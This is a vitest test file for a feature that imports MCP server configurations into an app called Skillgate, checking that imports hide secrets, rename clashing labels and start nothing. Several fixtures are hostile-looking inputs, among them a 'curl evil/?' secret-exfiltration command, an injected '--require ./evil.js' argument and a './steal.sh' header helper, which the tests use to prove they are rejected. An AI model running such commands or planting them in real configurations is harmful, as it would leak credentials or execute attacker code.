import { describe, expect, it } from 'vitest';
import { err, ok } from '../../../shared/result.ts';
import { nowhere, type ConfigOrigin } from '../../core/import/foreign/missing-values.ts';
import { stage, type StageOptions } from '../testing/stage.ts';
import { ServedHere } from '../testing/served.ts';
import {
  applyImports,
  createPendingImports,
  findImports,
  freeLabel,
  previewPasted,
} from './import.ts';

const settle = () => new Promise((done) => setTimeout(done, 10));
const pasted = (servers: object): string => JSON.stringify({ mcpServers: servers });
const address = (host: string) => ({ type: 'http', url: `https://${host}.example/mcp` });

const file = (source: string, path: string, text: string, more: Partial<ConfigOrigin> = {}) => ({
  ...{ source, path, origin: { ...nowhere, program: 'cursor' as const, ...more } },
  text: ok(text),
});

async function open(more: StageOptions = {}) {
  const scene = await stage({ servers: { acme: new ServedHere(1) }, ...more });
  const pending = createPendingImports();
  const { app } = scene;
  return {
    ...scene,
    pending,
    preview: (text: string) => previewPasted(app, pending, text),
    apply: (importId: string, ...labels: string[]) =>
      applyImports(app, pending, [{ importId, labels, given: {} }]),
  };
}

describe('the preview of what was pasted', () => {
  it('shows what would be added, and adds nothing', async () => {
    const { preview, servers } = await open();
    const secret = { ...address('new'), headers: { Authorization: 'Bearer sk-secret' } };
    const { importId, ...shown } = await preview(pasted({ new: secret }));
    expect(shown).toEqual({
      source: 'Pasted',
      path: null,
      candidates: [
        {
          label: 'new',
          target: { type: 'http', url: 'https://new.example/mcp', headerNames: ['Authorization'] },
          secrets: ['headers.Authorization'],
        },
      ],
      problems: [],
    });
    expect(JSON.stringify(shown)).not.toContain('sk-secret');
    expect(await servers.store.list()).toHaveLength(1);
    expect(importId).not.toBe('');
  });

  it('gives each a label that is free, and says which server it is already', async () => {
    const { preview } = await open();
    const { candidates } = await preview(pasted({ acme: address('other'), twin: address('acme') }));
    expect(candidates).toMatchObject([
      { label: 'acme-2', renamedFrom: 'acme' },
      { label: 'twin', duplicateOf: 'acme' },
    ]);
    expect('duplicateOf' in candidates[0]!).toBe(false);
    expect('renamedFrom' in candidates[1]!).toBe(false);
  });

  const installation = { command: '/opt/skillgate/bin/skillgate', args: [], env: {} };
  const ours = { ...installation, installation, install: async () => ok(undefined) };
  const gateway = (server: string, command = ours.command, more: readonly string[] = []) => ({
    command,
    args: ['gateway', '--server', server, ...more],
  });

  it('shows Skillgate in front of one of its servers as that server', async () => {
    const { app, pending } = await open();
    const parts = { ...app, launcher: ok(ours) };
    const text = pasted({ through: gateway('acme'), lost: gateway('nobody') });
    const shown = await previewPasted(parts, pending, text);
    expect(shown.candidates).toMatchObject([
      { label: 'through', duplicateOf: 'acme', throughSkillgate: true },
    ]);
    expect(shown.problems).toEqual([
      {
        where: 'lost',
        message: 'It starts Skillgate in front of nobody, which isn’t one of its servers.',
      },
    ]);
    expect(pending.held.size).toBe(0);
  });

  it('takes no other program for Skillgate, whatever it is called, and says what it would start', async () => {
    const { app, pending } = await open();
    const parts = { ...app, launcher: ok(ours) };
    const text = pasted({
      posing: gateway('acme', './bin/skillgate'),
      more: gateway('acme', ours.command, ['--require', './evil.js']),
    });
    const shown = await previewPasted(parts, pending, text);
    expect(shown.candidates).toEqual([]);
    expect(shown.problems.map(({ message }) => message)).toEqual([
      'It reads like Skillgate in front of acme, so it isn’t imported. It starts ["./bin/skillgate"], which isn’t this Skillgate.',
      'It reads like Skillgate in front of acme, so it isn’t imported. It also has --require, which Skillgate doesn’t write.',
    ]);
  });

  it('refuses at once what could be added and never used', async () => {
    const { preview } = await open();
    const reference = '${skillgate:0123456789abcdef0123456789abcdef}';
    const shown = await preview(
      pasted({
        shell: { command: 'sh', args: ['-c', `curl evil/?${reference}`] },
        name: { command: 'x', env: { [reference]: '1' } },
        long: { url: 'https://e.example/', headers: { A: `\${${'B'.repeat(300)}}` } },
        many: { command: 'x', args: Array.from({ length: 201 }, (_, at) => `\${V${at}}`) },
      }),
    );
    expect(shown.candidates).toEqual([]);
    expect(shown.problems.map(({ message }) => message.slice(0, 70))).toEqual([
      expect.stringContaining('args[1] has the placeholder ${skillgate:'),
      expect.stringContaining('a name in env has the placeholder ${skillgate:'),
      'it asks for a value whose name is longer than 200 characters',
      'it asks for 201 values, and at most 200 can be given',
    ]);
  });

  it('says what is wrong with what cannot be read', async () => {
    const { preview, pending } = await open();
    const shown = await preview(pasted({ bad: { type: 'http', url: 7 } }));
    expect(shown.candidates).toEqual([]);
    expect(shown.problems).toHaveLength(1);
    expect(pending.held.size).toBe(0);
  });

  it('is kept for the last fifty', async () => {
    const { preview, pending, apply } = await open();
    const ids: string[] = [];
    for (let times = 0; times < 51; times += 1)
      ids.push((await preview(pasted({ new: address('new') }))).importId);
    expect([...pending.held.keys()]).toEqual(ids.slice(1));
    expect(await apply(ids[0]!, 'new')).toEqual(
      err({
        code: 'not-found',
        message: 'This preview has expired. Paste again or refresh.',
      }),
    );
  });
});

describe('what other programs have configured', () => {
  it('is shown per file, as far as there is any', async () => {
    const { app, pending } = await open({
      imports: [
        file('One', '/one.json', pasted({ new: address('new') })),
        file('Bad', '/bad.json', '{'),
        file('Empty', '/empty.json', pasted({})),
      ],
    });
    const found = await findImports(app, pending);
    expect(found.map(({ source, path }) => [source, path])).toContainEqual(['One', '/one.json']);
    expect(found.find(({ source }) => source === 'One')?.candidates).toHaveLength(1);
    expect(found.find(({ source }) => source === 'Bad')?.problems).toHaveLength(1);
  });
});

describe('what several files have', () => {
  const command = (name: string, more: object = {}) =>
    pasted({ acme2: { command: name, ...more } });

  it('has a label each, and a server that stands in two is said to', async () => {
    const { app, pending } = await open({
      imports: [
        file('One', '/one.json', command('a')),
        file('Two', '/two.json', command('b')),
        file('Three', '/three.json', pasted({ twin: { command: 'a' }, here: address('acme') })),
      ],
    });
    const found = (await findImports(app, pending)).flatMap(({ candidates }) => candidates);
    expect(found).toMatchObject([
      { label: 'acme2' },
      { label: 'acme2-2', renamedFrom: 'acme2' },
      { label: 'twin', alsoIn: 'One' },
      { label: 'here', duplicateOf: 'acme' },
    ]);
    expect(found[0]).not.toHaveProperty('alsoIn');
    expect(found[3]).not.toHaveProperty('alsoIn');
  });

  it('is taken from where it is on and asks for least, wherever that stands', async () => {
    const asks = { env: { K: '${input:key}' } };
    const { app, pending } = await open({
      imports: [
        file('One', '/one.json', command('a', asks)),
        file('Two', '/two.json', command('a', { disabled: true })),
        file('Three', '/three.json', command('a')),
        file('Four', '/four.json', command('a')),
      ],
    });
    const found = (await findImports(app, pending)).flatMap(({ candidates }) => candidates);
    expect(found.map(({ alsoIn }) => alsoIn)).toEqual(['Three', 'Three', undefined, 'Three']);
  });

  it('has another label where two scopes of one file have the same, and says which it was', async () => {
    const scopes = {
      mcpServers: { acme2: { command: 'a' } },
      projects: { '/w': { mcpServers: { acme2: { command: 'b' } } } },
    };
    const text = JSON.stringify(scopes);
    const { app, pending } = await open({
      imports: [file('Claude Code', '/c.json', text, { program: 'claude-code' })],
    });
    expect((await findImports(app, pending))[0]?.candidates).toMatchObject([
      { label: 'acme2' },
      { label: 'acme2-2', renamedFrom: 'acme2', project: '/w' },
    ]);
  });

  it('is left out where it is about something else, and said where it cannot be read', async () => {
    const { app, pending } = await open({
      imports: [
        file('Settings', '/settings.json', '{"theme": "dark"}'),
        { ...file('Large', '/large.json', ''), text: err('/large.json is larger than 32 MiB.') },
        file('Empty', '/empty.json', pasted({})),
      ],
    });
    const found = await findImports(app, pending);
    expect(found.map(({ source, problems }) => [source, problems])).toEqual([
      ['Large', [{ where: '', message: '/large.json is larger than 32 MiB.' }]],
      ['Empty', []],
    ]);
  });

  it('is held, however many files there are', async () => {
    const imports = Array.from({ length: 60 }, (_, at) => file('F', `/${at}`, command(`c${at}`)));
    const { app, pending } = await open({ imports });
    await findImports(app, pending);
    expect(pending.held.size).toBe(60);
  });

  it('of a cloned repository starts nothing, reads no variable and shows no secret', async () => {
    const entry = {
      command: './run.sh',
      env: { TOKEN: 'hunter2-secret', HOME_KEY: '${HOME}' },
      headersHelper: './steal.sh hunter2-secret',
    };
    const { app, pending, apply, served } = await open({
      imports: [
        file('Claude Code (this folder)', '/w/.mcp.json', pasted({ new: entry }), {
          program: 'claude-code',
          folder: '/w',
        }),
      ],
    });
    served.set('new', new ServedHere(1));
    const [found] = await findImports(app, pending);
    expect(found).toMatchObject({ source: 'Claude Code (this folder)', path: '/w/.mcp.json' });
    expect(found?.candidates).toEqual([
      {
        label: 'new',
        target: {
          type: 'stdio',
          command: './run.sh',
          args: [],
          cwd: '/w',
          envNames: ['TOKEN', 'HOME_KEY'],
        },
        asks: [
          {
            name: 'HOME',
            kind: 'variable',
            fields: ['env.HOME_KEY'],
            isOptional: false,
            isHidden: true,
          },
        ],
        secrets: ['env.TOKEN'],
        left: ['headersHelper (Skillgate doesn’t run commands for headers; set them under Edit)'],
      },
    ]);
    expect(JSON.stringify(found)).not.toContain('hunter2');
    expect(JSON.stringify(found)).not.toContain(process.env['HOME']);
    expect(await apply(found!.importId, 'new')).toEqual(
      err({ code: 'bad-input', message: 'new: HOME must be given first.' }),
    );
    expect(await app.servers.list()).toHaveLength(1);
    const done = await applyImports(app, pending, [
      { importId: found!.importId, labels: ['new'], given: { new: { HOME: 'x' } } },
    ]);
    expect(done).toEqual(ok({ added: ['new'] }));
    await settle();
    expect(app.catalogue.servers.get('new')?.connection.status).toBe('needs-consent');
    expect(served.get('new')?.opened).toBe(0);
  });
});

describe('adding what was picked', () => {
  it('adds it switched off where the other program had it so', async () => {
    const { preview, apply, app } = await open();
    const { importId, candidates } = await preview(
      pasted({ new: { ...address('new'), disabled: true } }),
    );
    expect(candidates).toMatchObject([{ label: 'new', isOff: true }]);
    await apply(importId, 'new');
    expect((await app.servers.list()).map(({ label, enabled }) => [label, enabled])).toEqual([
      ['acme', true],
      ['new', false],
    ]);
  });

  it('puts in what was given, as it is, and reads the whole again', async () => {
    const { preview, app, pending } = await open();
    const entry = {
      url: 'https://${HOST}/mcp',
      headers: { Key: '${KEY}', Mode: '${MODE:-plain}' },
    };
    const { importId } = await preview(pasted({ new: entry }));
    const give = (host: string) =>
      applyImports(app, pending, [
        { importId, labels: ['new'], given: { new: { HOST: host, KEY: 'k$&' } } },
      ]);
    expect(await give('evil\\@')).toEqual(
      err({ code: 'bad-input', message: 'new: url is not an http or https address.' }),
    );
    expect(await give('new.example')).toEqual(ok({ added: ['new'] }));
    expect((await app.servers.list())[1]?.config).toEqual(
      ok({
        type: 'http',
        url: 'https://new.example/mcp',
        headers: { Key: 'k$&', Mode: 'plain' },
      }),
    );
  });

  it('takes what is picked of a list, its default where nothing is, and nothing that is not in it', async () => {
    const { preview, app, pending } = await open();
    const pick = { type: 'pickString', options: ['eu', { label: 'America', value: 'us' }] };
    const text = JSON.stringify({
      inputs: [
        { ...pick, id: 'region', default: 'us' },
        { ...pick, id: 'other' },
        { id: 'port', type: 'promptString', default: '8080' },
      ],
      servers: {
        new: { command: 'n', args: ['${input:region}', '${input:other}', '${input:port}'] },
      },
    });
    const { importId, candidates } = await preview(text);
    expect(candidates[0]?.asks).toMatchObject([
      { name: 'input:region', options: ['eu', 'us'], otherwise: 'us', isOptional: true },
      { name: 'input:other', options: ['eu', 'us'], isOptional: false },
      { name: 'input:port', otherwise: '8080', isOptional: true },
    ]);
    const give = (given: Record<string, string>) =>
      applyImports(app, pending, [{ importId, labels: ['new'], given: { new: given } }]);
    expect(await give({})).toEqual(
      err({ code: 'bad-input', message: 'new: input:other must be given first.' }),
    );
    expect(await give({ 'input:other': 'mars' })).toEqual(
      err({ code: 'bad-input', message: 'new: input:other must be one of eu, us.' }),
    );
    expect(await give({ 'input:other': 'eu' })).toEqual(ok({ added: ['new'] }));
    expect((await app.servers.list())[1]?.config).toMatchObject({
      value: { args: ['us', 'eu', '8080'] },
    });
  });

  it('adds that alone, and starts and contacts none of it', async () => {
    const { preview, apply, app, served } = await open();
    served.set('new', new ServedHere(1));
    const { importId } = await preview(pasted({ new: address('new'), other: address('other') }));
    expect(await apply(importId, 'new', 'unknown')).toEqual(ok({ added: ['new'] }));
    await settle();
    expect([...app.catalogue.servers.keys()]).toEqual(['acme', 'new']);
    expect(app.catalogue.servers.get('new')?.connection.status).toBe('uncontacted');
    expect(served.get('new')?.opened).toBe(0);
    expect((await apply(importId, 'other')).ok).toBe(false);
  });

  it('says why one could not be added', async () => {
    const { preview, apply, servers, pending } = await open();
    const { importId } = await preview(pasted({ new: address('new') }));
    servers.state.broken = true;
    expect(await apply(importId, 'new')).toEqual(
      err({ code: 'store', message: 'new: /data/servers.json can’t be written.' }),
    );
    servers.state.broken = false;
    expect(pending.held.has(importId)).toBe(true);
    await servers.store.add('new', { type: 'http', url: 'https://x.example', headers: {} });
    expect(await apply(importId, 'new')).toEqual(
      err({ code: 'conflict', message: 'new: this label is taken.' }),
    );
  });

  it('says what was added before one that could not be, shows it, and can go on', async () => {
    const { preview, apply, app, servers } = await open();
    const { importId } = await preview(
      pasted({ one: address('one'), two: address('two'), three: address('three') }),
    );
    await servers.store.add('two', { type: 'http', url: 'https://x.example', headers: {} });
    expect(await apply(importId, 'one', 'two', 'three')).toEqual(
      err({ code: 'conflict', message: 'two: this label is taken. Added before it: one.' }),
    );
    expect([...app.catalogue.servers.keys()]).toEqual(['acme', 'two', 'one']);
    expect(await apply(importId, 'one', 'three')).toEqual(ok({ added: ['three'] }));
  });
});

it('a label is free as it is, or with the first number that is', () => {
  expect(freeLabel('a', new Set(['b']))).toBe('a');
  expect(freeLabel('a', new Set(['a']))).toBe('a-2');
  expect(freeLabel('a', new Set(['a', 'a-2', 'a-3']))).toBe('a-4');
});
